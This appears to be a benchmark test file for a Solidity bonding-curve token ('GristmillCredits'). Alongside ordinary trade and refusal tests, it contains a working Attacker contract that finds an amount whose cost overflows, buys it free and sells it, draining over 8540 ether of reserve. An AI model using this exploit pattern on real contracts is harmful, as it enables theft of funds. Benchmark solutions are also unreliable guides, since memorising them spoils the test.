// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

import "./GristmillCredits.sol";

// assay-canary-c02aa580-7773-41fe-be10-332d8f9de3bb

interface Vm {
    function deal(address who, uint256 balance) external;
    function prank(address sender) external;
    function expectRevert(bytes calldata reason) external;
}

/// Takes no ether.
contract Rock {}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 internal constant RESERVE = 8800 ether;
    uint256 internal constant SUPPLY = 1e26;

    GristmillCredits internal credits;
    Attacker internal thief;

    receive() external payable {}

    function setUp() public {
        vm.deal(address(this), RESERVE + 1000 ether);
        credits = new GristmillCredits{value: RESERVE}(SUPPLY);
        thief = new Attacker(credits);
    }

    function test_Regular() public {
        // one hundredth of the supply: 0.0201 of the reserve
        uint256 cost = credits.costOf(SUPPLY / 100);
        require(cost == 176.88 ether, "cost");
        (bool ok, ) = address(credits).call{value: cost - 1}(abi.encodeWithSignature("buy(uint256)", SUPPLY / 100));
        require(!ok, "too little");
        uint256 before = address(this).balance;
        credits.buy{value: 500 ether}(SUPPLY / 100);
        require(address(this).balance == before - cost, "change");
        require(credits.reserve() == address(credits).balance, "reserve");

        uint256 id = credits.post(3 ether);
        credits.confirm(id, address(0x311));
        require(credits.balanceOf(address(0x311)) == 3 ether, "reward");

        before = address(this).balance;
        credits.sell(SUPPLY / 100, 80 ether);
        require(address(this).balance - before < cost, "sold for less");
        require(credits.reserve() == address(credits).balance, "reserve after");
        require(credits.totalSupply() == SUPPLY, "supply");

        credits.transfer(address(0x311), 1 ether);
        credits.approve(address(0x311), 2 ether);
        vm.prank(address(0x311));
        credits.transferFrom(address(this), address(0x312), 2 ether);
        require(credits.balanceOf(address(0x311)) == 4 ether && credits.balanceOf(address(0x312)) == 2 ether, "handed on");
    }

    // What is refused, each from the state after setUp().

    /// Credits of something, for their price, while some are left.
    function test_RefusesTrades() public {
        vm.expectRevert("Gristmill: amount");
        credits.buy(0);
        vm.expectRevert("Gristmill: too little ether");
        credits.buy{value: 1}(SUPPLY / 100);
        vm.expectRevert("Gristmill: price moved");
        credits.sell(SUPPLY / 100, 89 ether);
        vm.expectRevert("Gristmill: last credit");
        credits.sell(SUPPLY, 0);
        vm.prank(address(0x311));
        vm.expectRevert("SafeMath: subtraction");
        credits.transfer(address(this), 1);
        vm.expectRevert("SafeMath: multiplication");
        credits.costOf(uint256(-1));
    }

    /// Jobs are confirmed once, by the foreman, for somebody.
    function test_RefusesJobs() public {
        uint256 id = credits.post(1 ether);
        credits.post(1 ether);
        vm.prank(address(0x311));
        vm.expectRevert("Gristmill: not the foreman");
        credits.confirm(id, address(0x311));
        vm.expectRevert("Gristmill: done");
        credits.confirm(id, address(0));
        credits.confirm(id, address(0x311));
        vm.expectRevert("Gristmill: done");
        credits.confirm(id, address(0x312));
        credits.transfer(address(credits), 1 ether);
        vm.prank(address(thief));
        vm.expectRevert("SafeMath: subtraction");
        credits.sell(1, 0);
    }

    /// A mill starts with credits and ether.
    function test_RefusesEmptyStarts() public {
        try new GristmillCredits{value: 1}(0) {
            revert("without credits");
        } catch Error(string memory why) {
            require(keccak256(bytes(why)) == keccak256("Gristmill: empty start"), "credits");
        }
        try new GristmillCredits(1) {
            revert("without ether");
        } catch Error(string memory why) {
            require(keccak256(bytes(why)) == keccak256("Gristmill: empty start"), "ether");
        }
        address rock = address(new Rock());
        credits.transfer(rock, 1 ether);
        vm.prank(rock);
        vm.expectRevert("Gristmill: payment");
        credits.sell(1 ether, 0);
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        uint256 before = address(thief).balance;
        exploit();
        require(address(thief).balance >= before + 8540 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(credits);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// Looks for the amount whose cost has just gone around, buys it for nothing and sells it.
contract Attacker {
    GristmillCredits internal credits;

    constructor(GristmillCredits credits_) public {
        credits = credits_;
    }

    receive() external payable {}

    /// The least n with reserve * n * (n + 2 * supply) of 2^256 or more.
    function amount() public view returns (uint256) {
        uint256 supply = credits.totalSupply();
        uint256 goal = uint256(-1) / credits.reserve() + 1;
        uint256 low = 0;
        uint256 high = 1e30;
        while (low + 1 < high) {
            uint256 middle = (low + high) / 2;
            if (middle * (middle + 2 * supply) >= goal) high = middle;
            else low = middle;
        }
        return high;
    }

    function run() external {
        uint256 n = amount();
        credits.buy(n);
        credits.sell(n, 0);
    }
}
